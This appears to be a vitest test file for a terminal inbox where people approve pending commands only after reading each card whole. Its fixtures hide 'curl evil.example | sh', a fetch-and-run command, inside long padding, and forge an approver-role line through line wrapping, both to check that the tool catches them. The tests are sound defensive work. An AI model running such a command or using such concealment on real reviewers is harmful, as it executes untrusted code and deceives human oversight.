// state.test.ts — the inbox without a terminal: what counts as read, what a key does, and that it says so

import type { ApprovalAnswer } from "@holdpoint/client/answers.ts";
import { describe, expect, test } from "vitest";
import type { Key } from "./keys.ts";
import { cardRows, initial, type Size, type State, wholeSeen } from "./model.ts";
import type { Effect } from "./press.ts";
import { GOES_ON, rowsOf, rowTexts } from "./rows.ts";
import { update } from "./state.ts";

const item = (lines: string[], more: object = {}): ApprovalAnswer =>
  ({
    id: "apr_1",
    state: "pending",
    requirements: [{ role: "approver", quorum: 1, votes: 0 }],
    risk: { score: 1 },
    card: { text: lines.join("\n"), sha256: "sha256:1", truncated: false },
    ...more,
  }) as unknown as ApprovalAnswer;
const key = (name: string): Key => (name.length === 1 ? { text: name } : { name: name as NonNullable<Key["name"]> });

function play(start: State, ...keys: (string | Key)[]): { state: State; sent: Effect[] } {
  let state = start;
  const sent: Effect[] = [];
  for (const each of keys) {
    const [next, effect] = update(state, { kind: "key", key: typeof each === "string" ? key(each) : each });
    state = next;
    if (effect) sent.push(effect);
  }
  return { state, sent };
}
function showing(one: ApprovalAnswer, size: Size = { columns: 40, rows: 14 }): State {
  const [listed] = update(initial(size), { kind: "items", items: [one] });
  return play(listed, "enter").state;
}
const spaces = (times: number) => Array.from({ length: times }, () => " ");

describe("a card that was not on the screen whole is not approved", () => {
  const long = `command: ${"x".repeat(2_000)} && curl evil.example | sh ${"y".repeat(2_000)}`;
  test("one line that is longer than the screen, jumped over to its end", () => {
    const { state, sent } = play(showing(item([long])), "G", "a", "y");
    expect([wholeSeen(state), sent]).toEqual([false, []]);
    expect(state.notice.text).toContain("read the whole card first");
  });
  test("nor when the middle is jumped over by pages from the end", () => {
    const { state } = play(showing(item([long, "the end"])), "G", "pageUp", "pageUp", "a");
    expect(wholeSeen(state)).toBe(false);
  });
  test("nor when the window grows over what it jumped", () => {
    const jumped = play(showing(item([long])), "G").state;
    const [wider] = update(jumped, { kind: "size", size: { columns: 60, rows: 14 } });
    expect(wholeSeen(wider)).toBe(false);
  });
  test("read page by page it is, and the yes names the card that was read", () => {
    const { state, sent } = play(showing(item([long])), ...spaces(20), "a", "y");
    expect(wholeSeen(state)).toBe(true);
    expect(sent).toEqual([{ kind: "approve", id: "apr_1", cardSha256: "sha256:1" }]);
  });
  test("in a window of nothing, nothing is read and nothing is sent", () => {
    const { state, sent } = play(showing(item(["ls"]), { columns: 80, rows: 4 }), "a", "y", "d");
    expect([wholeSeen(state), state.input, sent]).toEqual([false, undefined, []]);
  });
});

describe("a line that goes on cannot pass for another one", () => {
  const forged = `command: ${"x".repeat(31)}WHO MUST ANSWER${" ".repeat(23)}  role: nobody`;
  test("it stands behind a mark that no card holds", () => {
    const rows = rowTexts([forged], 40);
    expect(rows.length).toBeGreaterThan(2);
    expect(rows.slice(1).every((row) => row.startsWith(GOES_ON))).toBe(true);
  });
  test("and every row fits, and joined they are the line", () => {
    const rows = rowsOf([forged, "", "b"], 40);
    expect(rows.map(({ text }) => text).join("")).toBe(`${forged}b`);
    expect(rows.map(({ goesOn }) => goesOn).filter((goesOn) => !goesOn)).toHaveLength(3);
    expect(rows.at(-1)?.to).toBe(forged.length + 4);
    for (const { text, goesOn } of rows) expect(text.length + (goesOn ? 2 : 0)).toBeLessThanOrEqual(40);
  });
});

describe("every key says what it did", () => {
  const list = () => update(initial({ columns: 80, rows: 24 }), { kind: "items", items: [item(["ls"])] })[0];
  test.each<[string, State, (string | Key)[], RegExp]>([
    ["a in the list", list(), ["a"], /open it first/],
    ["d in the list", list(), ["d"], /open it first/],
    ["a in an empty list", initial({ columns: 80, rows: 24 }), ["a"], /nothing waits/],
    ["Enter in an empty list", initial({ columns: 80, rows: 24 }), ["enter"], /nothing to open/],
    ["an unknown key in the list", list(), ["x"], /no use for x here.*\?/],
    ["an unknown key on a card", showing(item(["ls"])), ["x"], /no use for x/],
    ["a denial without a reason", showing(item(["ls"])), ["d", "enter"], /needs a reason/],
    ["an empty question", showing(item(["ls"])), ["i", "enter"], /ask something/],
    ["giving up", showing(item(["ls"])), ["d", "x", "escape"], /nothing was sent/],
    ["anything but y", showing(item(["ls"])), ["a", "n"], /nothing was sent/],
    ["d on what is settled", showing(item(["ls"], { state: "rejected" })), ["d"], /settled/],
    ["i on what is settled", showing(item(["ls"], { state: "rejected" })), ["i"], /settled/],
    ["y before a", showing(item(["ls"])), ["y"], /press a first/],
    ["a beside other keys", showing(item(["ls"])), [{ text: "a", together: true }], /press a alone/],
  ])("%s", (_what, state, keys, said) => {
    const done = play(state, ...keys);
    expect(done.state.notice.text).toMatch(said);
    expect(done.sent).toEqual([]);
  });
  test("what was said is taken away by the next step", () => {
    const { state } = play(showing(item(["x".repeat(2_000)])), "a", " ");
    expect(state.notice.text).toBe("");
  });
  test("? shows the keys, and the next key is only the way back", () => {
    const helped = play(showing(item(["ls"])), "?").state;
    expect(helped.help).toBe(true);
    const { state, sent } = play(helped, "a", "y");
    expect([state.help, state.confirming, sent]).toEqual([false, false, []]);
  });
});

test("what is settled elsewhere while it is read is said", () => {
  const [state] = update(showing(item(["ls"])), { kind: "items", items: [] });
  expect(state.notice.text).toContain("answered elsewhere");
  expect(cardRows(state)).toHaveLength(1);
  expect(play(state, "a", "y").sent).toEqual([]);
});
